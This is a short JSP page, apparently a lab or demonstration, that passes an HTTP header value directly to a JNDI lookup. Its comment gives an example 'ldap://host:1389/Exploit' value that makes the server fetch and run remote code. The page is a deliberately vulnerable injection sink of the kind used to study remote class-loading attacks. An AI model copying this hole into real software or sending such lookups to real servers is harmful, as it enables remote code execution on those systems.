<%@ page import="javax.naming.Context, javax.naming.InitialContext" %>
<%-- A JNDI name taken from a header: "ldap://host:1389/Exploit" makes the server fetch and run the
     class or the serialized object that host serves (older JDKs, or a gadget on the class path). --%>
<%
    String name = request.getHeader("X-Ref");
    if (name != null) {
        Context ctx = new InitialContext();
        Object o = ctx.lookup(name);
        out.print(o == null ? "-" : o.getClass().getName());
    }
%>
